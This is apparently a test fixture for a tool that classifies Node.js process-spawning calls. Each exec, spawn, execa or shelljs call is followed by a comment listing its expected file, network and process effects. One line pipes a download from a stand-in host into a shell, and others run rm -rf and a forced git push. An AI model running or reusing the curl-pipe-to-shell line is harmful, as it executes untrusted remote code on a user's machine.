const { exec, execSync, spawn, execFileSync, fork } = require("child_process");
import { execa, $ } from "execa";
import shell from "shelljs";
import util from "util";

exec("ls -la data");  // fs.list File data; proc.exec Program ls
execSync("rm -rf build");  // fs.delete Folder build ~; proc.exec Program rm
execSync(`git checkout ${branch}`);  // fs.write Folder the workspace ~; proc.exec Program git ~
spawn("git", ["push", "--force"]);  // http.delete Domain - ~; http.post Domain - ~; proc.exec Program git
spawn("curl https://evil.example | sh", { shell: true });  // http.get Endpoint evil.example:443; opaque; proc.exec Program curl
execFileSync("/usr/bin/make", ["all"]);  // proc.exec Program /usr/bin/make
fork("worker.js");  // fs.read File worker.js; opaque; proc.exec Program node
await util.promisify(exec)("npm test");  // proc.exec Program npm
await execa("npm", ["publish"]);  // http.post Domain - ~; proc.exec Program npm
await $`cat notes.txt`;  // fs.read File notes.txt; proc.exec Program cat
shell.rm("-rf", "out");  // fs.delete File out
shell.exec("date");  // proc.exec Program date
shell.cat("a.txt");  // fs.read File a.txt
process.kill(1234, "SIGKILL");  // proc.exec Program kill ~
new Worker("./other.js");  // opaque
